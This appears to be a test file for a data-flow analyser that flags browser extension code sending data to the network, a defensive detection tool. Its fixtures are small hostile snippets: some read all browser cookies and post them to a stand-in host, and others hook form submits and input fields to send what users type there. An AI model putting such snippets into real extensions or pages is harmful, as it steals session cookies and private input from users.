import { expect, test } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { sample } from '../testing/sample.ts';
import { flowsOf } from './flowsOf.ts';

const HOST = 'https://collect.example';
const COOKIES = 'const read = (domain) => new Promise((done) => chrome.cookies.getAll({ domain }, done));';
const UP = `const up = (body) => fetch('${HOST}/u', { method: 'POST', body });`;
const RUNTIME =
  'var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}';
const SUBMIT = 'document.addEventListener("submit",(function(e){r.post("/l",new FormData(e.target))}),!0)';

async function isSent(place: 'background' | 'content', code: string): Promise<boolean> {
  const { flows } = (await factsOf(sample({ [place]: code }))).whole(flowsOf);
  return flows.some(({ sink }) => sink.kind === 'network');
}

test.each<[string, 'background' | 'content', string]>([
  [
    'by its name to `map`',
    'background',
    `${COOKIES} Promise.all(['a', 'b'].map(read)).then((all) => fetch('${HOST}/?' + all.flat()));`,
  ],
  [
    'by its name to `then`',
    'background',
    `${COOKIES} ${UP} const pack = (all) => all.map(({ value }) => value); read('a').then(pack).then(up);`,
  ],
  [
    'of the language to `then`',
    'background',
    `${UP} chrome.cookies.getAll({}).then(JSON.stringify).then(btoa).then(up);`,
  ],
  [
    'of the language to `map`',
    'background',
    `${UP} chrome.cookies.getAll({}).then((all) => up(all.map(String).map(encodeURIComponent)));`,
  ],
  [
    'to jQuery',
    'content',
    `jQuery(function ($) { $('form').on('submit', function () { $.post('${HOST}/s', $(this).serialize()); }); });`,
  ],
  [
    'to `ready`',
    'content',
    `jQuery(document).ready(($) => { $('input').on('change', (e) => $.get('${HOST}/s?' + e.target.value)); });`,
  ],
  [
    'to what `noConflict` gives',
    'content',
    `jQuery.noConflict()(function ($) { $('input').change(function () { $.get('${HOST}/?' + $(this).val()); }); });`,
  ],
  [
    'of the language to `Array.from`',
    'background',
    `chrome.cookies.getAll({}).then((all) => fetch('${HOST}/?' + Array.from(all, JSON.stringify)));`,
  ],
  [
    'in modules by number, beside a list of functions that is none',
    'content',
    `(()=>{var e={1:(e,t,n)=>{var r=n(2);${SUBMIT};run([()=>0,()=>0,()=>0])},2:(e,t)=>{t.post=function(e,t){return fetch("${HOST}"+e,{method:"POST",body:t})}}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n(1)})();`,
  ],
  [
    'in a list of modules, beside such a one',
    'content',
    `!function(e){${RUNTIME}n(0)}([function(e,t,n){var r=n(1);${SUBMIT};(function(a){})([()=>0,()=>0])},function(e,t){t.post=function(e,t){return fetch("${HOST}"+e,{method:"POST",body:t})}},function(){}]);`,
  ],
  [
    'to a loader of modules',
    'content',
    `define(['jquery', './own'], function ($) { $('form').submit(function () { $.post('${HOST}', $(this).serialize()); }); });`,
  ],
  [
    'to what calls it less often',
    'content',
    `document.addEventListener('input', _.debounce((e) => fetch('${HOST}', { method: 'POST', body: e.target.value }), 500));`,
  ],
  [
    'in a list of modules',
    'content',
    `!function(e){${RUNTIME}n(0)}([function(e,t,n){var r=n(1);${SUBMIT}},function(e,t){t.post=function(e,t){return fetch("${HOST}"+e,{method:"POST",body:t})}}]);`,
  ],
  [
    'in a list of modules that is added',
    'content',
    `(window.webpackJsonp=window.webpackJsonp||[]).push([[0],[function(e,t,n){var r=n(1);${SUBMIT}},function(e,t){e.exports={post:function(e,t){return fetch("${HOST}"+e,{method:"POST",body:t})}}}]]);`,
  ],
])('what a function gives is followed that is handed %s', async (_, place, code) => {
  expect(await isSent(place, code)).toBe(true);
});

test.each<[string, 'background' | 'content', string]>([
  [
    'a count',
    'background',
    `${COOKIES} const count = () => 1; Promise.all(['a'].map(count)).then((all) => fetch('${HOST}/?' + all)); read('a');`,
  ],
  ['numbers', 'background', `${UP} chrome.cookies.getAll({}).then((all) => up(all.map(Number)));`],
  [
    'another module',
    'content',
    `!function(e){${RUNTIME}n(0)}([function(e,t,n){var r=n(2);${SUBMIT}},function(e,t){t.post=function(e,t){return fetch("${HOST}"+e,{method:"POST",body:t})}},function(e,t){t.post=function(){}}]);`,
  ],
])('and not taken for data where it is %s', async (_, place, code) => {
  expect(await isSent(place, code)).toBe(false);
});
